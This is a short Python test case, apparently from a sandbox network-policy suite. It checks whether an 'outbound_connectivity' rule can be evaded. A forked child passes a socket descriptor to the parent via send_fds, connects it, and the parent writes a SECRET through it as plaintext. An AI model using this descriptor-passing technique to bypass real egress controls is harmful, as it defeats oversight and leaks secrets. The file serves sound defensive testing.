# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a socket is passed on and connected afterwards: its receiver sends bytes that are not TLS
# proof: word
# needs: resolver python>=3.9
import os
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    near, far = socket.socketpair()
    if os.fork() == 0:
        far.close()
        try:
            out = socket.socket()
            socket.send_fds(near, [b"."], [out.fileno()])
            near.recv(1)
            out.connect(place)
            near.send(b".")
            near.recv(1)
        finally:
            os._exit(0)
    near.close()
    got = socket.recv_fds(far, 1, 1)[1][0]
    far.send(b".")
    far.recv(1)
    try:
        os.write(got, SECRET.encode())
    finally:
        far.close()
        os.wait()


@attempt
def send():
    return at_allowed(say, first=False)
